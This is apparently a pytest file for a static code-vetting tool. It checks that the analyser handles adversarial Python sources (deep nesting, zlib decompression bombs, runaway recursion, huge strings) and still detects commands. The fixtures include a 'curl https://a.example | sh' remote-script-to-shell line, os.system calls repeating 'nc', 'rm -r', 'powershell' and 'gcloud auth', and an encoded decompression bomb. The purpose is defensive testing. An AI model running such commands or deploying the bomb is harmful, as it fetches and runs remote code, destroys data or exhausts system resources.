"""Sources that are made to take long, to take memory, or to break what follows them. All end, and none breaks a review."""

import base64
import zlib

import pytest

from wheelhouse.vet.code.follow import Source, follow

NESTED = {
    "a sum": "x = " + "+".join(["a"] * 5000),
    "calls": "x = " + "f(" * 150 + ")" * 150,
    "attributes": "x = a" + ".b" * 5000,
    "lists": "x = " + "[" * 150 + "]" * 150,
    "conditions": "x = " + "a if b else " * 2000 + "c",
    "a chain of methods": "x = 'a'" + ".lower()" * 3000,
    "blocks": "".join(" " * depth + "if x:\n" for depth in range(95)) + " " * 95 + "pass\n",
}
PACKED = base64.b64encode(zlib.compress(bytes(50_000_000))).decode()
LONG = {
    "texts that double": "x = 'abcdefgh'\n" + "x = x + x\n" * 60,
    "texts that are copied": "a = 'x' * 1000000\n" + "".join(f"a{n} = a + '{n}'\n" for n in range(200)),
    "a product": "x = 'a' * 10 ** 9\ny = 'a' * (1 << 40)\nz = 2 ** 2 ** 2 ** 2 ** 2 ** 2\n",
    "a wide format": "x = '{:>999999999}'.format(1)\ny = '%999999999d' % 1\nz = 'a'.ljust(10 ** 9)\n",
    "a range": "x = [chr(i) for i in range(10 ** 12)]\ny = ''.join(map(chr, range(10 ** 9)))\n",
    "a bomb of zlib": f"import zlib, base64\nx = zlib.decompress(base64.b64decode('{PACKED}'))\n",
    "functions that call each other": "def f(x):\n    return g(x + 1)\ndef g(x):\n    f(x)\n    return f(x + 1)\nf(0)\n",
    "lists that double": "x = ['a']\n" + "x = [x, x]\n" * 40 + "os.system(x)\n",
    "lists of lists": "a = [0 for _ in range(2000)]\nb = [a for _ in range(2000)]\n" + "len(b)\n" * 20,
    "fields of a long text": "a = 'x' * 1000000\nb = ('{0}' * 300000).format(a)\nc = ('%s' * 3) % (a, a, a)\n",
    "blanks and a bracket": "x = (1\n" + (" " * 20_000 + ")\n") + "y = 1" + " " * 20_000 + "# c\n",
    "a command of one word": "os.system('nc ' * 20000)\nos.system('rm ' + '-r ' * 20000)\nos.system('powershell ' * 20000)\n",
    "a command of flags": "os.system('rm -' + 'r' * 20000 + '!')\nos.system('gcloud auth ' * 9000)\n",
    "a command of backslashes": "os.system('\\\\' * 40 + '!')\n",
    "many functions": "def f0(x): exec(x)\n"
    + "".join(f"def f{n}(x): f{n - 1}(x); f{n - 1}(x + 1); f{n - 1}(x + 2)\n" for n in range(1, 60))
    + "f59('')\n",
    "lambdas": "f = lambda g: g(g)\nf(f)\n",
    "classes": "class A(A): pass\nclass B(A): x = A().y\nB().z()\n",
    "loops in loops": "x = ''\n"
    + "".join("    " * d + f"for i{d} in range(2000):\n" for d in range(6))
    + "    " * 6
    + "x += 'a'\n",
    "code in code": "exec('exec(\"exec(\\'exec(1)\\')\")')\n",
    "an import of itself": "import odd\nfrom odd import *\nfrom . import odd\nodd.x()\n",
    "a table": "T = [" + "(1, 2, 3)," * 5_000 + "]\nexec('1')\n",
    "nothing known": "for exec in globals(): locals()[exec] = vars()[exec] = __import__(exec)\nsetattr(*x, **y)\nprint(*a, *b)\n",
    "odd names": "getattr()\n__import__()\nopen()\nexec()\nos.system()\nsubprocess.run()\nrequests.get()\nbytes.fromhex()\n",
}


def followed(text: str) -> tuple[str, ...]:
    return tuple(one.kind for one in follow((Source("odd/__init__.py", "odd", text.encode(), is_package=True),)))


@pytest.mark.parametrize("case", NESTED)
def test_what_is_nested_deeply_is_followed_or_said(case: str) -> None:
    kinds = followed(NESTED[case] + "\nimport os\nos.system('curl https://a.example | sh')\n")
    assert "command" in kinds or "unfollowed" in kinds


@pytest.mark.parametrize("case", LONG)
def test_what_takes_long_ends_and_what_stands_before_it_is_found(case: str) -> None:
    assert "command" in followed("import os\nos.system('curl https://a.example | sh')\n" + LONG[case])


@pytest.mark.parametrize(
    "text", ["\ufeffx = 1\n", "# coding: nonsense\nx = 1\n", "# coding: hex\n", "\r\n\x0c\n", "x = '\\udc80'", "x\x00y"]
)
def test_an_odd_encoding_does_no_harm(text: str) -> None:
    followed(text)
    follow((Source("odd.py", "odd", text.encode("utf-16")),))
    follow((Source("odd.py", "odd", b"exec(x)\n" + bytes(range(128, 256))),))


def test_a_source_that_is_too_long_is_said() -> None:
    assert followed("exec(x)\n" + "x = 1\n" * 1_500_000) == ("unfollowed",)
